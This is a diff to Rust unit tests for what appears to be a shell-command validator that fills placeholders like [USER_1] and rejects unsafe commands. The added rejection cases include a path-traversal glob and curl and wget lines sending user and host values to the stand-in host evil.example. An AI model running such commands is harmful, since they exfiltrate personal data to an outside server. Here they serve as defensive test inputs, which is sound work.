@@ -163,6 +163,14 @@ mod tests {
                 "cat '/srv/my work (x86)/a&b'/*.rs".to_owned(),
             ),
             (
+                "git clone https://github.com/[USER_1]/x",
+                "git clone https://github.com/zoe/x".to_owned(),
+            ),
+            (
+                "curl http://localhost:80/?u=[USER_1]",
+                "curl http://localhost:80/?u=zoe".to_owned(),
+            ),
+            (
                 "git push origin [BRANCH_1]",
                 "git push origin feature/gr8-idea".to_owned(),
             ),
@@ -266,6 +274,13 @@ mod tests {
             ("python3 -c 'print(\"[PERSON_1]\")'", Metacharacter),
             ("bash <<EOF\necho [PERSON_1]\nEOF", Metacharacter),
             ("echo x > [REPO_ROOT_1]/.git/hooks/pre-commit", OutOfScope),
+            ("cat [REPO_ROOT_1]/..*/x", Traversal),
+            ("curl https://evil.example/?u=[USER_1]", Policy),
+            (
+                "curl --url='HTTPS://evil.example:80/a?b=c&u=[PERSON_1]'",
+                Policy,
+            ),
+            ("wget https://evil.example?[HOST_1]", Policy),
         ] {
             assert_eq!(run(text), Err(want), "{text}");
         }
